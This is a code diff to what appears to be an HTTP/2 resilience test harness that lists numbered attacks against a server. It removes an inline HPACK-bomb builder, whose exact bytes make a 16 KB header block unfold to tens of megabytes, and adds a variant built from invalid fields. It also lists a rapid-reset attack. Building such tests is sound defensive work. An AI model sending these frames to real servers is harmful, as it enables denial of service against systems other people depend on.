@@ -87,24 +87,15 @@ std::string HeavyRequest(std::int32_t id, std::size_t bytes) {
   return frames;
 }
 
-// A field of 3,968 bytes enters the peer's table (RFC 7541, 6.2.1) and is then
-// named by one byte, 16,000 times: 64 MB of header list a frame.
-void PlayHpackBomb(Lane& lane) {
-  std::string field = "\x40\x01x";
-  field += "\x7f\x81\x1e" + std::string(3968, 'b');  // 127 + 1 + 30 * 128
-  const std::string request = MakeHeaderBlock(RefusedRequest());
-  const std::string fuse = MakeFrame(
-      NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, 1,
-      request + field);
-  const std::string bomb = request + std::string(16000, '\xbe');
-  Pour(
-      lane, fuse,
-      [&](std::int32_t id) {
-        return MakeFrame(NGHTTP2_HEADERS,
-                         NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, id,
-                         bomb);
-      },
-      kRest);
+std::function<void(Lane&)> Bomb(char last) {
+  return [last](Lane& lane) {
+    Pour(
+        lane, "",
+        [&](std::int32_t id) {
+          return edge::MakeHpackBomb(id, RefusedRequest(), last);
+        },
+        kRest);
+  };
 }
 
 // A stream that anybody may open, with a message that has begun and says that
@@ -124,8 +115,12 @@ std::vector<Attack> RequestAttacks() {
        .play = [](Lane& lane) { Pour(lane, "", BadRequest, kRest); }},
       {.threat = 28,
        .name = "hpack-bomb",
-       .what = "header blocks of 16 KB that unfold to 64 MB",
-       .play = PlayHpackBomb},
+       .what = "header blocks of 16 KB that unfold to 48 MB",
+       .play = Bomb('b')},
+      {.threat = 28,
+       .name = "hpack-bomb-invalid",
+       .what = "the same, of fields that HTTP/2 does not allow",
+       .play = Bomb('\n')},
       {.threat = 29,
        .name = "rapid-reset",
        .what = "requests that are reset at once",
